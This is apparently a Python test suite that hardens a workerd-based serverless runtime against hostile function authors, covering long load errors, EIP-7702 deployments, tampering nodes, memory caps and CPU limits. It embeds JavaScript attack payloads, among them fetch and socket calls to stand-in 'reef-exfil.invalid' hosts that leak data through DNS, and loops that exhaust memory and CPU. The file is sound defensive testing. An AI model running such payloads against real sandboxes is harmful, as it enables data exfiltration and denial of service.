"""Hostile function authors against the function runtime: each attack replayed on real workerd.

A function's author is a stranger. Whatever a function does must end in a verdict that every
honest executor signs (an executor that submits nothing is slashed, to the job's user: the
author, when the author opens the job), within the limits reef promises: no outbound network
unless the operator allows it, a memory cap per call. The runtimes here are real workerd
processes; the executor's chain is the devnet in process.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import shutil
import stat
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from web3.types import RPCEndpoint, RPCResponse

from proc_support import pids_where
from reef.chain.devnet import DevnetProvider
from reef.crypto import Secp256k1PrivateKey
from reef.serverless import (
    ErrorCode,
    ExecutorNode,
    FunctionRuntime,
    Limits,
    fund_gas,
)
from reef.serverless._runtime import _markers_in
from serverless.chain_support import PARAMS, ServerlessChain

pytestmark = pytest.mark.node

HELLO = b"export default { async fetch(r) { return new Response('hello, ' + await r.text()); } };"
# A module that throws at load with a message longer than the console output reef keeps
# (64 KiB): workerd's "service main: Uncaught" line starts more than that before its end.
LONG_LOAD_ERROR = b"""throw new Error("x".repeat(100000));
export default { fetch() { return new Response("never"); } };"""
# The same through V8's own message: a regular expression literal V8 refuses, echoed whole.
LONG_SYNTAX_ERROR = (
    b"const r = /" + b"(" * 70000 + b"a" + b")" * 70000 + b"/;\n"
    b"export default { fetch() { return new Response('never'); } };"
)


@pytest.fixture
async def runtime(workerd: Path) -> AsyncIterator[FunctionRuntime]:
    async with FunctionRuntime(workerd, max_idle=2) as rt:
        yield rt


# -- a load failure too long to read whole -------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(LONG_LOAD_ERROR, id="throws-100-kB-at-load"),
        pytest.param(LONG_SYNTAX_ERROR, id="syntax-error-of-140-kB"),
    ],
)
async def test_a_load_failure_with_a_long_message_is_the_functions_verdict(
    runtime: FunctionRuntime, source: bytes
) -> None:
    """The runtime told a load failure from reef's failure by workerd's marker line, read from
    the newest 64 KiB of its output: a longer message pushed the marker out, and every executor
    reported "reef's failure" (submitting nothing: slashed) for a function that does not load."""
    result = await runtime.run(source, b"", limits=Limits(timeout_ms=3000))
    assert result.error_code is ErrorCode.SYNTAX_ERROR
    assert result.output == b""
    assert (await runtime.run(HELLO, b"next")).output == b"hello, next"


async def test_executors_sign_a_verdict_on_a_function_whose_load_error_is_long(
    runtime: FunctionRuntime, tmp_path: Path
) -> None:
    """The attack end to end: the author deploys such a function and opens a job on it; the
    selected executor must sign and submit code 3, not stay silent."""
    chain, node = await _executor_on_a_fresh_deployment(runtime, tmp_path)
    try:
        service = node.service
        assert service is not None
        user = chain.users[0]
        codehash = await asyncio.to_thread(chain.code(user).deploy_code, LONG_LOAD_ERROR)
        request, _ = await asyncio.to_thread(chain.jobs(user).create_job, codehash, b"", 3000)
        assert node.address in request.selected_executors
        signed = await service.execute(request)
        assert signed is not None, "the executor submitted nothing: it would be slashed"
        responses = chain.jobs().responses(request.block_number, job_id=request.job_id)
        assert [(r.executor, r.error_code) for r in responses] == [
            (node.address, ErrorCode.SYNTAX_ERROR)
        ]
    finally:
        await node.aclose()


async def _executor_on_a_fresh_deployment(
    runtime: FunctionRuntime, tmp_path: Path
) -> tuple[ServerlessChain, ExecutorNode]:
    """One executor registered (two more keys fill a job's selection), configured without its
    chain watcher: the tests hand it their jobs."""
    chain = ServerlessChain.create(PARAMS)
    key = Secp256k1PrivateKey.generate()
    chain.register(chain.operators[0], key=key, capacity=2)
    for operator in chain.operators[1 : PARAMS.num_select]:
        chain.register(operator)
    fund_gas(chain.w3, chain.deployer, key.public_key.checksum_address, 10**18)
    node = ExecutorNode(key, runtime, tmp_path / "code", job_capacity=2)
    await chain.configure(node)
    return chain, node


def _deploy_by_set_code_transaction(chain: ServerlessChain, source: bytes) -> str:
    """Deploy ``source`` as ``deploy_code`` does, but in an EIP-7702 (type 4) transaction: any
    author may send one, and the code contract stores it as any other."""
    user, w3 = chain.users[0], chain.w3
    code = chain.code(user)
    data = code.contract.encode_abi("saveCodeInCallData", [source.decode(), b""])
    nonce = w3.eth.get_transaction_count(user.address)
    authorization = user.sign_authorization(
        {"chainId": w3.eth.chain_id, "address": "0x" + "00" * 19 + "01", "nonce": nonce + 1}
    )
    transaction: dict[str, Any] = {
        "type": 4,
        "chainId": w3.eth.chain_id,
        "nonce": nonce,
        "to": code.address,
        "value": 0,
        "data": data,
        "gas": 2_000_000,
        "maxFeePerGas": 10**10,
        "maxPriorityFeePerGas": 10**9,
        "accessList": [],
        "authorizationList": [authorization],
    }
    signed = user.sign_transaction(transaction)
    tx_hash = w3.eth.send_raw_transaction(signed.raw_transaction)
    assert w3.eth.wait_for_transaction_receipt(tx_hash)["status"] == 1
    return "0x" + bytes(tx_hash).hex()


async def test_code_deployed_by_a_set_code_transaction_gets_a_signed_verdict(
    runtime: FunctionRuntime, tmp_path: Path
) -> None:
    """The attack: the author deploys with a transaction type the executor cannot check, then
    opens a job on it. Fetching the code raised, every selected executor submitted nothing and
    was slashed, to the author (the job's user)."""
    chain, node = await _executor_on_a_fresh_deployment(runtime, tmp_path)
    try:
        service = node.service
        assert service is not None
        codehash = await asyncio.to_thread(_deploy_by_set_code_transaction, chain, HELLO)
        user = chain.users[0]
        request, _ = await asyncio.to_thread(chain.jobs(user).create_job, codehash, b"t4", 3000)
        assert node.address in request.selected_executors
        signed = await service.execute(request)
        assert signed is not None, "the executor submitted nothing: it would be slashed"
        responses = chain.jobs().responses(request.block_number, job_id=request.job_id)
        assert [(r.executor, r.output) for r in responses] == [(node.address, b"hello, t4")]
    finally:
        await node.aclose()


class TamperingNode(DevnetProvider):
    """A chain node that answers every transaction with one byte of its calldata changed: the
    host of an executor enclave making it run other code under a function's codehash."""

    def make_request(self, method: RPCEndpoint, params: Any) -> RPCResponse:
        answer = super().make_request(method, params)
        result = answer.get("result")
        if method == "eth_getTransactionByHash" and isinstance(result, dict):
            result["input"] = result["input"][:-2] + (
                "00" if result["input"][-2:] != "00" else "01"
            )
        return answer


async def test_code_the_node_cannot_vouch_for_is_a_counted_failure_not_a_crash(
    runtime: FunctionRuntime, tmp_path: Path
) -> None:
    """A job whose code cannot be fetched or checked (here the node tampered with it) is not
    run and nothing is submitted: one counted failure and one warning, where the job's task
    died with a ChainError traceback."""
    chain, node = await _executor_on_a_fresh_deployment(runtime, tmp_path)
    await node.aclose()
    service = await chain.service_through(
        node.key, runtime, tmp_path / "tampered", TamperingNode(chain.devnet)
    )
    user = chain.users[0]
    codehash = await asyncio.to_thread(chain.code(user).deploy_code, HELLO)
    request, _ = await asyncio.to_thread(chain.jobs(user).create_job, codehash, b"x", 3000)
    assert await service.execute(request) is None
    assert (service.stats.failures, service.stats.outputs_submitted) == (1, 0)
    assert runtime.stats.started == 0  # nothing ran


# -- no network means no DNS either ----------------------------------------------------------

NAME_LOOKUP = b"""import { connect } from "cloudflare:sockets";
export default { async fetch() {
  const out = [];
  try { await fetch("http://secret-in-a-name.reef-exfil.invalid/"); out.push("fetched"); }
  catch (e) { out.push("fetch: " + e.message); }
  try { const s = connect("other-secret.reef-exfil.invalid:80");
    await s.readable.getReader().read(); out.push("connected"); }
  catch (e) { out.push("connect: " + e.message); }
  return new Response(out.join("\\n"));
} };"""


async def test_a_function_without_network_cannot_send_a_dns_query(
    runtime: FunctionRuntime,
) -> None:
    """With no network allowed, workerd's network service still looked every host name up
    (the allow list is checked on the address): a function could send its input, or anything,
    to a name server of its author's as ``<data>.author.example``. No name may be looked up."""
    result = await runtime.run(NAME_LOOKUP, b"", limits=Limits(timeout_ms=4000))
    assert result.error_code is ErrorCode.OK, result
    text = result.output.decode()
    assert "lookup" not in text, text  # "failed to lookup address information"
    fetch_line, connect_line = text.splitlines()
    assert "secret-in-a-name.reef-exfil.invalid is not allowed" in fetch_line
    assert connect_line.startswith("connect: ")
    assert "connected" not in connect_line


@pytest.mark.skipif(shutil.which("strace") is None, reason="needs strace to watch the syscalls")
async def test_no_socket_reaches_a_name_server(workerd: Path, tmp_path: Path) -> None:
    """The same, watched from outside: workerd (under strace) opens no socket to port 53."""
    trace = tmp_path / "trace"
    wrapper = tmp_path / "workerd"
    wrapper.write_text(
        f"#!/bin/sh\nexec {shutil.which('strace')} -f -qq -e trace=connect,sendto,sendmmsg,accept4 "
        f'-o {trace} {workerd} "$@"\n'
    )
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
    async with FunctionRuntime(wrapper, max_idle=0) as traced:
        result = await traced.run(NAME_LOOKUP, b"", limits=Limits(timeout_ms=8000))
    assert result.error_code is ErrorCode.OK, result
    calls = trace.read_text()
    assert "accept4(" in calls  # the trace works: workerd accepting the call is in it
    assert "htons(53)" not in calls
    assert "reef-exfil" not in calls


# -- memory held after the answer ------------------------------------------------------------

# Answers at once, then (in ctx.waitUntil, with no deadline) takes 24 MiB every 20 ms and keeps
# it, using little CPU.
GROWS_AFTER_ANSWER = b"""const keep = [];
export default { async fetch(request, env, ctx) {
  ctx.waitUntil((async () => {
    for (let i = 0; i < 12; i++) {
      keep.push(new Uint8Array(24 << 20).fill(1));
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    await new Promise((resolve) => setTimeout(resolve, 60000));
  })());
  return new Response("answered");
} };"""


async def test_an_idle_process_past_its_memory_cap_is_killed(workerd: Path) -> None:
    """Resident memory was watched only while a call ran: after its answer a function kept
    allocating in ``waitUntil`` and sat in the warm pool past its cap for as long as it stayed
    idle (each of the pool's processes, so the pool's size times whatever it took). The CPU
    allowance is raised here, so that memory alone must get it killed."""
    cap = 96 * 1024 * 1024
    async with FunctionRuntime(
        workerd, max_idle=2, idle_cpu_ms=60_000, idle_check_s=0.05
    ) as runtime:
        limits = Limits(timeout_ms=3000, memory_bytes=cap)
        first = await runtime.run(GROWS_AFTER_ANSWER, b"", limits=limits)
        assert first.output == b"answered"
        for _ in range(100):
            if runtime.stats.idle == 0:
                break
            await asyncio.sleep(0.05)
        assert runtime.stats.idle == 0, "a process past its memory cap stayed in the pool"
        assert runtime.stats.killed == 1
        again = await runtime.run(GROWS_AFTER_ANSWER, b"", limits=limits)
        assert again.cold


# Breaks its answer (the body stream errors after its first byte) and meanwhile, in
# ctx.waitUntil, takes 16 MiB after 16 MiB: reef waits up to 2 s for such a process to exit
# (a dying process's output says why it died), and watched no memory while it waited.
BREAKS_AND_GROWS = b"""const keep = [];
export default { async fetch(request, env, ctx) {
  ctx.waitUntil((async () => {
    await new Promise((resolve) => setTimeout(resolve, 20));
    for (let i = 0; i < 400; i++) { keep.push(new Uint8Array(16 << 20).fill(1)); await null; }
    await new Promise((resolve) => setTimeout(resolve, 60000));
  })());
  return new Response(new ReadableStream({ start(c) {
    c.enqueue(new Uint8Array([1]));
    setTimeout(() => c.error(new Error("broken on purpose")), 10);
  } }));
} };"""


def _workerd_resident_bytes() -> int:
    """The resident memory of this process's workerd children, together."""
    me = str(os.getpid())
    total = 0
    for pid in pids_where(
        lambda entry: (entry / "stat").read_text().rsplit(")", 1)[1].split()[1] == me
    ):
        with contextlib.suppress(OSError):
            total += int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf(
                "SC_PAGE_SIZE"
            )
    return total


async def test_memory_stays_capped_while_a_broken_answer_is_judged(
    runtime: FunctionRuntime,
) -> None:
    """The memory cap held only until the answer broke: in the wait that follows, the process
    took 600 MiB and more on a 96 MiB cap (as fast as it could allocate, for 2 s)."""
    cap = 96 * 1024 * 1024
    peak = 0
    call = asyncio.create_task(
        runtime.run(BREAKS_AND_GROWS, b"", limits=Limits(timeout_ms=3000, memory_bytes=cap))
    )
    while not call.done():
        peak = max(peak, _workerd_resident_bytes())
        await asyncio.sleep(0.01)
    result = call.result()
    assert result.error_code is ErrorCode.MEMORY_LIMIT, result
    # The watch samples every 5 ms (later on a loaded machine): what a process takes between
    # two samples is the margin.
    assert peak < cap + 256 * 1024 * 1024, f"peak {peak >> 20} MiB on a {cap >> 20} MiB cap"
    assert (await runtime.run(HELLO, b"next")).output == b"hello, next"


# Breaks its answer, then spins (in ctx.waitUntil) for as long as its process lives.
BREAKS_AND_SPINS = b"""export default { async fetch(request, env, ctx) {
  ctx.waitUntil((async () => {
    await new Promise((resolve) => setTimeout(resolve, 20));
    for (;;) {}
  })());
  return new Response(new ReadableStream({ start(c) {
    c.enqueue(new Uint8Array([1]));
    setTimeout(() => c.error(new Error("broken on purpose")), 10);
  } }));
} };"""


async def test_a_broken_answer_buys_no_cpu_past_the_allowance(workerd: Path) -> None:
    """The 2 s reef waits for a process whose answer broke were the function's to spin in,
    unbilled: a job paying for 1 ms got 2 s of CPU on each executor it selected. The wait now
    ends, and the process is killed, once it used the CPU allowance of an answered call."""
    async with FunctionRuntime(workerd, max_idle=0, idle_cpu_ms=50) as runtime:
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        result = await runtime.run(BREAKS_AND_SPINS, b"", limits=Limits(timeout_ms=3000))
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert (result.error_code, result.status, result.output) == (ErrorCode.OK, 500, b"")
    cpu_s = (after.ru_utime + after.ru_stime) - (before.ru_utime + before.ru_stime)
    # Its start and the 50 ms allowance take well under a second; the 2 s spin, about 2 s.
    assert cpu_s < 1.0, f"the process used {cpu_s:.2f} s of CPU"


def test_a_marker_split_between_two_reads_is_found() -> None:
    """The output is read in chunks: a marker across a chunk boundary still counts, and bytes
    that only look like the start of one do not."""
    marker = b"service main: Uncaught"
    found, carry = _markers_in(b"", b"x" * 20_000 + marker[:9])
    assert found == set()
    found, carry = _markers_in(carry, marker[9:] + b" Error: boom\n")
    assert found == {marker}
    assert _markers_in(b"", b"service main: Uncaugh")[0] == set()
